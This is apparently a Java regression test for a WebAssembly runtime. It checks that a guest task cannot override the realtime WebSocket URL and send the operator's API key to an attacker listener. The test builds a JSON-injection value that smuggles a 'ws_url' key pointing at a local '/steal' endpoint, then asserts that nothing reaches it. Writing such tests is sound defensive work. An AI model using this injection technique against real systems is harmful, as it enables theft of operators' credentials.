package io.spear.spearlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import io.spear.ai.AiConfig;
import io.spear.runtime.RuntimeConfig;
import io.spear.testing.HttpTestClient;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A guest once named its own {@code ws_url} for a speech session, and the node opened a WebSocket
 * there carrying the configured backend's API key. A guest-supplied address now never receives a
 * request: the session is refused, and the configured backend is only reached at its own URL.
 */
@Timeout(60)
class RealtimeUrlAttackTest {

  private static final String SECRET = "sk-OPERATOR-SECRET-4242";

  @TempDir Path dataDir;

  @Test
  void aGuestCannotSendTheBackendKeyToItsOwnUrl() throws Exception {
    try (RecordingListener attacker = new RecordingListener();
        RecordingListener backend = new RecordingListener();
        TestPlatform platform = TestPlatform.start(dataDir)) {
      JsonNode llm =
          new YAMLMapper()
              .readTree(
                  """
                  credentials:
                    - {name: operator, kind: env, api_key_env: REALTIME_KEY}
                  backends:
                    - {name: realtime, kind: openai_realtime_ws, base_url: '%s',
                       credential_ref: operator}
                  """
                      .formatted(backend.httpUrl("/v1")));
      SpearletServer node =
          SpearletServer.builder(RuntimeConfig.of(platform.nodeConfig()))
              .ai(AiConfig.of(llm, Map.of("REALTIME_KEY", SECRET)))
              .start();
      platform.spearlets.add(node);
      // media_probe writes {"key":"backend","value":"<arg>"}: the argument adds a second key, as
      // any guest could by calling rtasr_ctl itself.
      String steal = "x\",\"key\":\"ws_url\",\"value\":\"" + attacker.wsUrl("/steal");
      String task = platform.deploy("media_probe.c.wasm", "asr", steal);

      HttpTestClient.Answer answer =
          new HttpTestClient(node.port())
              .postJson("/functions/execute", "{\"task_id\": \"%s\"}".formatted(task));

      assertThat(attacker.requests()).isEmpty();
      assertThat(backend.requests()).isEmpty();
      String stdout =
          new String(
              Base64.getDecoder().decode(answer.json().path("output_base64").asText()),
              StandardCharsets.UTF_8);
      assertThat(stdout)
          .contains("connect=-1")
          .contains("ws_url is not accepted")
          .doesNotContain(SECRET);
    }
  }
}
